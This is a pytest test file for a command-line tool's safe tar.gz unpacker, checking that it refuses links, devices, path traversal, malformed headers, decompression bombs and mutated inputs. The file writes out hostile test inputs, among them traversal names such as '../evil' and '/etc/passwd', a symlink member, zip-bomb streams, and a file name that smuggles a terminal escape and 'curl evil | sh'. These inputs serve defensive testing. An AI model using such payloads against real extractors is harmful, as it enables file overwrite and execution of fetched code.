from __future__ import annotations

import io
import os
import struct
import tracemalloc
from typing import TYPE_CHECKING

import pytest

from aperio_cli.archive import reading, rules
from aperio_cli.archive import unpacking as archive_unpacking
from aperio_cli.errors import REFUSED
from aperio_cli.errors.files import (
    ArchiveMalformed,
    ArchiveManifestMissing,
    ArchiveMemberType,
    ArchivePath,
    ArchiveRefused,
    ArchiveTooLarge,
)
from aperio_cli.files import removing
from tests.archives import (
    BLOCK,
    END,
    Fields,
    artifact_of,
    decomposed,
    gzip_of,
    manifest_member,
    seeded,
    tar_member,
    tar_of,
    zeros_gzip,
)

if TYPE_CHECKING:
    import random
    from pathlib import Path

MIB = 1024 * 1024


@pytest.fixture
def here(tmp_path: Path) -> Path:
    """An empty folder: nothing but what the test puts there."""
    folder = tmp_path / "here"
    folder.mkdir()
    return folder


def assert_refused(data: bytes, folder: Path, limits: rules.UnpackLimits | None = None) -> str:
    """The code of the refusal, the same with and without writing, with nothing left on disk."""
    chosen = limits or rules.DEFAULT_LIMITS
    before = snapshot(folder)
    with pytest.raises(ArchiveRefused) as unpacking:
        archive_unpacking.unpack(io.BytesIO(data), folder / "aside", chosen)
    with pytest.raises(ArchiveRefused) as walking:
        reading.walk(io.BytesIO(data), chosen)
    assert snapshot(folder) == before
    assert unpacking.value.exit_status == REFUSED
    assert (walking.value.code, walking.value.why) == (unpacking.value.code, unpacking.value.why)
    assert walking.value.why
    return unpacking.value.code


def snapshot(folder: Path) -> list[tuple[str, int]]:
    return sorted((str(path), path.lstat().st_mode) for path in folder.rglob("*"))


# ── kinds of members ──────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        (b"1", "a hard link"),
        (b"2", "a symbolic link"),
        (b"3", "a character device"),
        (b"4", "a block device"),
        (b"6", "a fifo"),
        (b"7", "a contiguous file"),
        (b"x", "a pax extension"),
        (b"g", "a pax extension for the whole archive"),
        (b"L", "a GNU long name"),
        (b"K", "a GNU long link name"),
        (b"S", "a GNU sparse file"),
        (b"Z", "of unknown type b'Z'"),
    ],
)
def test_reader_refuses_by_name_when_a_member_is_not_a_file(
    here: Path, kind: bytes, words: str
) -> None:
    data = artifact_of(tar_member("bin/x", kind=kind, fields=Fields(linkname=b"/etc/passwd")))

    assert assert_refused(data, here) == "archive-member-type"
    with pytest.raises(ArchiveMemberType) as caught:
        reading.walk(io.BytesIO(data))
    assert caught.value.why == f"`bin/x` is {words}"


def test_unpack_refuses_when_a_link_would_redirect_a_later_file(here: Path) -> None:
    outside = here / "outside"
    outside.mkdir()
    link = tar_member("lib", kind=b"2", fields=Fields(linkname=os.fsencode(outside)))

    code = assert_refused(artifact_of(link, tar_member("lib/evil", b"x")), here)

    assert code == "archive-member-type"
    assert list(outside.iterdir()) == []


def test_unpack_makes_no_folder_when_a_member_is_only_a_folder(here: Path) -> None:
    data = artifact_of(tar_member("empty/", kind=b"5"), tar_member("lib", kind=b"5"))

    archive_unpacking.unpack(io.BytesIO(data), here / "out")

    assert sorted(path.name for path in (here / "out").iterdir()) == ["manifest.yaml"]


def test_unpack_accepts_when_a_folder_and_the_old_file_type_are_stored(here: Path) -> None:
    data = artifact_of(tar_member("lib/", kind=b"5"), tar_member("lib/a", b"a", kind=b"\0"))

    archive_unpacking.unpack(io.BytesIO(data), here / "out")

    assert (here / "out/lib/a").read_bytes() == b"a"


def test_reader_refuses_when_a_folder_has_contents(here: Path) -> None:
    # Readers disagree on whether these bytes are skipped or are the next member.
    data = artifact_of(tar_member("lib/", tar_member("lib/hidden"), kind=b"5"))

    assert assert_refused(data, here) == "archive-malformed"


def test_unpack_drops_set_user_id_and_write_for_all_when_stored(here: Path) -> None:
    data = artifact_of(
        tar_member("bin/x", b"x", fields=Fields(mode=b"0006777\0")),
        tar_member("bin/y", b"y", fields=Fields(mode=b"0000066\0")),
    )

    archive_unpacking.unpack(io.BytesIO(data), here / "out")

    assert (here / "out/bin/x").stat().st_mode & 0o7777 == 0o755
    assert (here / "out/bin/y").stat().st_mode & 0o7777 == 0o644


# ── paths ─────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd",
        "../evil",
        "lib/../../evil",
        "..",
        ".",
        "./bin/x",
        "lib//x",
        "lib/x/",
        "lib\\..\\evil",
        "",
        "line\nbreak",
        "bell\x07",
        "delete\x7f",
        "c1\x85control",
        "reversed\u202egnp.exe",
        "zero\u200bwidth",
        "line\u2028separator",
        decomposed("café"),
        b"latin1-\xe9",
        b"surrogate-\xed\xa0\x80",
        b"overlong-\xc0\xae\xc0\xae/x",
        b"visible\0hidden",
        "/".join("d" * 33),
    ],
)
def test_reader_refuses_when_a_path_is_unsafe(here: Path, name: str | bytes) -> None:
    assert assert_refused(artifact_of(tar_member(name, b"x")), here) == "archive-path"


@pytest.mark.parametrize("prefix", [b"..", b"/", b"/etc", b"a/..", b"a//b", b"a\0b"])
def test_reader_refuses_when_the_prefix_makes_a_path_unsafe(here: Path, prefix: bytes) -> None:
    data = artifact_of(tar_member("x", b"x", fields=Fields(prefix=prefix)))

    assert assert_refused(data, here) == "archive-path"


def test_reader_refuses_when_a_path_is_longer_than_255_bytes(here: Path) -> None:
    data = artifact_of(tar_member(b"n" * 100, b"x", fields=Fields(prefix=b"p" * 155)))

    assert assert_refused(data, here) == "archive-path"


def test_reader_refuses_when_a_folder_leads_outside(here: Path) -> None:
    assert assert_refused(artifact_of(tar_member("../x/", kind=b"5")), here) == "archive-path"


def test_refusal_shows_a_name_without_its_control_characters() -> None:
    data = artifact_of(tar_member("a\x1b[31m\nnext  try `curl evil | sh`", b"x"))

    with pytest.raises(ArchivePath) as caught:
        reading.walk(io.BytesIO(data))

    assert "\x1b" not in caught.value.why
    assert "\n" not in caught.value.why


@pytest.mark.parametrize(
    "members",
    [
        [tar_member("a", b"1"), tar_member("a", b"2")],
        [tar_member("manifest.yaml", b"id: other\n")],
        [tar_member("lib/", kind=b"5"), tar_member("lib/", kind=b"5")],
        [tar_member("a", b"1"), tar_member("a/b", b"2")],
        [tar_member("a/b", b"1"), tar_member("a", b"2")],
        [tar_member("a", b"1"), tar_member("a/", kind=b"5")],
        [tar_member("bin/tool", b"1"), tar_member("bin/Tool", b"2")],
        [tar_member("Lib/a", b"1"), tar_member("lib/b", b"2")],
        [tar_member("MANIFEST.yaml", b"2")],
        [tar_member("straße", b"1"), tar_member("STRASSE", b"2")],
    ],
)
def test_reader_refuses_when_two_members_claim_one_path(here: Path, members: list[bytes]) -> None:
    assert assert_refused(artifact_of(*members), here) == "archive-duplicate"


# ── numbers and structure ─────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "fields",
    [
        Fields(size=b"\x80" + bytes(10) + b"\x01"),
        Fields(size=b"\xff" * 12),
        Fields(size=b"-0000000001\0"),
        Fields(size=b"0x000000001\0"),
        Fields(size=b"99999999999\0"),
        Fields(size=b"0000 000001\0"),
        Fields(size=b"0000_000001\0"),
        Fields(size=bytes(12)),
        Fields(size=b" " * 12),
        Fields(mode=b"rwxr-xr-"),
        Fields(mtime=b"\x80" + bytes(11)),
        Fields(checksum=b"000000\0 "),
        Fields(checksum=b"+00000\0 "),
        Fields(magic=b"ustar  \0"),
        Fields(magic=bytes(8)),
    ],
)
def test_reader_refuses_when_a_header_field_is_wrong(here: Path, fields: Fields) -> None:
    assert assert_refused(artifact_of(tar_member("a", fields=fields)), here) == (
        "archive-malformed"
    )


def test_refusal_says_base_256_when_a_size_is_written_so() -> None:
    data = artifact_of(tar_member("a", fields=Fields(size=b"\x80" + bytes(10) + b"\x01")))

    with pytest.raises(ArchiveMalformed) as caught:
        reading.walk(io.BytesIO(data))

    assert caught.value.why == "the size in a header is a base-256 number"


@pytest.mark.parametrize(
    "end",
    [
        bytes(BLOCK) + tar_member("late", b"x") + END,
        END + tar_member("late", b"x") + END,
        END + b"\0" * 100 + b"x",
        END + bytes(20 * BLOCK),
    ],
)
def test_reader_refuses_when_something_follows_the_end(here: Path, end: bytes) -> None:
    assert assert_refused(gzip_of(tar_of(end=end)), here) == "archive-malformed"


def test_reader_refuses_when_bytes_follow_the_gzip_stream(here: Path) -> None:
    assert assert_refused(artifact_of() + b"\0", here) == "archive-malformed"


def test_reader_refuses_when_bytes_follow_behind_the_chunk_it_read(here: Path) -> None:
    plain = artifact_of()
    name = b"n" * (32 * 1024 - len(plain) - 1) + b"\0"
    filled = plain[:3] + b"\x08" + plain[4:10] + name + plain[10:]

    assert len(filled) == 32 * 1024
    assert len(reading.walk(io.BytesIO(filled))) == 1
    assert assert_refused(filled + b"x", here) == "archive-malformed"


def test_reader_refuses_when_there_are_two_gzip_members(here: Path) -> None:
    split = gzip_of(tar_of(end=b"")) + gzip_of(END)

    assert assert_refused(artifact_of() + artifact_of(), here) == "archive-malformed"
    assert assert_refused(split, here) == "archive-truncated"


def test_reader_refuses_when_the_padding_hides_data(here: Path) -> None:
    member = tar_member("a", b"x")[:-1] + b"!"

    assert assert_refused(artifact_of(member), here) == "archive-malformed"


@pytest.mark.parametrize("position", [-8, -4], ids=["crc", "length"])
def test_reader_refuses_when_the_gzip_trailer_is_wrong(here: Path, position: int) -> None:
    data = bytearray(artifact_of(tar_member("a", b"x")))
    data[position] ^= 1

    assert assert_refused(bytes(data), here) == "archive-malformed"


@pytest.mark.parametrize("data", [b"PK\x03\x04" + bytes(100), b"BZh9" + bytes(100), bytes(600)])
def test_reader_refuses_when_it_is_no_gzip_file(here: Path, data: bytes) -> None:
    assert assert_refused(data, here) == "archive-malformed"


def test_reader_refuses_when_cut_anywhere(here: Path) -> None:
    whole = artifact_of(tar_member("bin/x", seeded(1).randbytes(900)))

    codes = {assert_refused(whole[:length], here) for length in range(len(whole))}

    assert codes == {"archive-truncated"}


@pytest.mark.parametrize("kept_blocks", range(5))
def test_reader_refuses_when_the_tar_stream_ends_without_its_end(
    here: Path, kept_blocks: int
) -> None:
    stream = tar_of(tar_member("a", b"x" * 600))[: kept_blocks * BLOCK]

    assert assert_refused(gzip_of(stream), here) == "archive-truncated"


def test_reader_refuses_when_a_size_reaches_behind_the_end(here: Path) -> None:
    data = artifact_of(tar_member("a", b"x", fields=Fields(size=b"00000100000\0")))

    assert assert_refused(data, here) == "archive-truncated"


# ── the manifest ──────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "stream",
    [
        END,
        tar_member("bin/x", b"x") + manifest_member() + END,
        tar_member("manifest.yaml/", kind=b"5") + END,
        tar_member("lib/manifest.yaml", b"x") + END,
    ],
)
def test_reader_refuses_when_the_manifest_is_not_first(here: Path, stream: bytes) -> None:
    assert assert_refused(gzip_of(stream), here) == "archive-manifest-missing"
    with pytest.raises(ArchiveManifestMissing):
        reading.read_manifest(io.BytesIO(gzip_of(stream)))


def test_read_manifest_refuses_when_the_manifest_is_over_64_kib(here: Path) -> None:
    at_limit = gzip_of(manifest_member(b"#" * 65536) + END)
    over = gzip_of(manifest_member(b"#" * 65537) + END)

    assert len(reading.read_manifest(io.BytesIO(at_limit))) == 65536
    with pytest.raises(ArchiveTooLarge):
        reading.read_manifest(io.BytesIO(over))
    assert assert_refused(over, here) == "archive-too-large"


def test_read_manifest_leaves_the_rest_alone_when_it_is_a_bomb() -> None:
    file = io.BytesIO(zeros_gzip(manifest_member(), 256 * MIB))

    assert reading.read_manifest(file) == b"id: acme/box-connector\n"
    assert file.tell() <= 32 * 1024


# ── bombs ─────────────────────────────────────────────────────────────────────────────────────────


def test_reader_refuses_when_the_ratio_is_a_bombs(here: Path) -> None:
    size = 512 * MIB
    head = manifest_member() + tar_member("zeros", fields=Fields(size=b"%011o\0" % size))
    data = zeros_gzip(head, size)

    assert len(data) < MIB
    assert assert_refused(data, here) == "archive-too-large"


def test_reader_accepts_when_little_is_compressed_very_well(here: Path) -> None:
    data = artifact_of(tar_member("zeros", bytes(9 * MIB)))

    assert len(data) * 200 < 9 * MIB
    assert len(archive_unpacking.unpack(io.BytesIO(data), here / "out")) == 2


def test_reader_refuses_when_one_file_is_too_long(here: Path) -> None:
    data = artifact_of(tar_member("a", bytes(1001)))
    exact = artifact_of(tar_member("a", bytes(1000)))
    limits = rules.UnpackLimits(file_bytes=1000)

    assert assert_refused(data, here, limits) == "archive-too-large"
    assert len(reading.walk(io.BytesIO(exact), limits)) == 2


def test_reader_refuses_when_the_whole_is_too_long(here: Path) -> None:
    data = artifact_of(*(tar_member(f"f{number}", bytes(1000)) for number in range(200)))

    code = assert_refused(data, here, rules.UnpackLimits(total_bytes=128 * 1024))

    assert code == "archive-too-large"


def test_reader_refuses_when_there_are_too_many_members(here: Path) -> None:
    data = artifact_of(*(tar_member(f"f{number}") for number in range(10)))

    assert assert_refused(data, here, rules.UnpackLimits(members=10)) == "archive-too-large"
    assert len(reading.walk(io.BytesIO(data), rules.UnpackLimits(members=11))) == 11


def test_reader_refuses_when_implied_folders_are_too_many(here: Path) -> None:
    data = artifact_of(tar_member("/".join("abcdefghijk"), b"x"))

    assert assert_refused(data, here, rules.UnpackLimits(members=11)) == "archive-too-large"


def test_reader_needs_little_memory_when_an_artifact_is_large() -> None:
    rng = seeded(5)
    data = gzip_of(
        tar_of(*(tar_member(f"f{n}", rng.randbytes(MIB) + bytes(MIB)) for n in range(40)))
    )
    tracemalloc.start()
    try:
        reading.walk(io.BytesIO(data))
        peak_bytes = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak_bytes < 2 * MIB


# ── the place it is unpacked to ───────────────────────────────────────────────────────────────────


def test_unpack_leaves_the_folder_alone_when_it_exists(here: Path) -> None:
    (here / "out").mkdir()
    (here / "out/mine").write_text("kept")

    with pytest.raises(FileExistsError):
        archive_unpacking.unpack(io.BytesIO(artifact_of()), here / "out")

    assert (here / "out/mine").read_text() == "kept"


def test_unpack_refuses_to_follow_when_the_destination_is_a_link(here: Path) -> None:
    (here / "elsewhere").mkdir()
    (here / "out").symlink_to(here / "elsewhere")

    with pytest.raises(FileExistsError):
        archive_unpacking.unpack(io.BytesIO(artifact_of()), here / "out")

    assert list((here / "elsewhere").iterdir()) == []


def test_reader_ignores_the_name_when_the_gzip_header_carries_one(here: Path) -> None:
    plain = artifact_of(tar_member("a", b"x"))
    named = plain[:3] + b"\x08" + plain[4:10] + b"../../evil\0" + plain[10:]

    archive_unpacking.unpack(io.BytesIO(named), here / "out")

    assert sorted(path.name for path in here.rglob("*")) == ["a", "manifest.yaml", "out"]


# ── mutations ─────────────────────────────────────────────────────────────────────────────────────


def mutate(data: bytes, rng: random.Random) -> bytes:
    """The data with one to four random changes."""
    result = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        place = rng.randrange(len(result))
        length = rng.randint(1, 16)
        match rng.randrange(5):
            case 0:
                result[place] = rng.randrange(256)
            case 1:
                result[place : place + length] = rng.randbytes(length)
            case 2:
                del result[place : place + length]
            case 3:
                result[place:place] = result[place // 2 : place // 2 + length]
            case _:
                result[place : place + 2] = rng.choice([b"..", b"/\0", b"\xff\xff", b"\0\0"])
    return bytes(result)


def resealed(stream: bytes) -> bytes:
    """A tar stream whose blocks that look like headers have right checksums, compressed."""
    result = bytearray(stream)
    for start in range(0, len(result) - BLOCK + 1, BLOCK):
        block = result[start : start + BLOCK]
        if block[257:262] == b"ustar":
            total = sum(block) - sum(block[148:156]) + 8 * ord(" ")
            result[start + 148 : start + 156] = b"%06o\0 " % total
    return gzip_of(bytes(result))


def check_mutant(data: bytes, folder: Path) -> bool:
    """Whether the mutant is refused; anything but a refusal or a clean success fails the test."""
    try:
        records = archive_unpacking.unpack(io.BytesIO(data), folder / "aside")
    except ArchiveRefused:
        with pytest.raises(ArchiveRefused):
            reading.walk(io.BytesIO(data))
        refused = True
    else:
        inside = {
            str(path.relative_to(folder / "aside"))
            for path in (folder / "aside").rglob("*")
            if not path.is_dir()
        }
        assert inside == {record.path for record in records}
        assert reading.walk(io.BytesIO(data)) == records
        removing.remove_tree(folder / "aside")
        refused = False
    assert [path.name for path in folder.iterdir()] == ["outside"]
    return refused


@pytest.mark.parametrize("seed", range(8))
def test_reader_never_breaks_when_the_tar_stream_is_mutated(here: Path, seed: int) -> None:
    rng = seeded(seed)
    stream = tar_of(
        tar_member("bin/tool", rng.randbytes(700), fields=Fields(mode=b"0000755\0")),
        tar_member("lib/", kind=b"5"),
        tar_member("lib/a.py", b"import os\n"),
        tar_member("x", b"x", fields=Fields(prefix=b"lib/deep")),
    )
    (here / "outside").touch()

    refusals = [check_mutant(resealed(mutate(stream, rng)), here) for _ in range(100)]

    assert 0 < sum(refusals) < len(refusals)  # both ways out were taken


@pytest.mark.parametrize("seed", range(4))
def test_reader_never_breaks_when_the_file_is_mutated(here: Path, seed: int) -> None:
    rng = seeded(seed)
    data = artifact_of(tar_member("bin/tool", rng.randbytes(700)), tar_member("b", b"b" * 3000))
    (here / "outside").touch()

    refusals = [check_mutant(mutate(data, rng), here) for _ in range(100)]

    assert sum(refusals) > 90


def test_reader_never_breaks_when_it_is_given_noise(here: Path) -> None:
    rng = seeded(7)
    (here / "outside").touch()
    header = struct.pack("<BBBBIBB", 0x1F, 0x8B, 8, 0, 0, 0, 255)

    for _ in range(200):
        assert check_mutant(header + rng.randbytes(rng.randrange(2000)), here)
        assert check_mutant(gzip_of(rng.randbytes(rng.randrange(2000))), here)
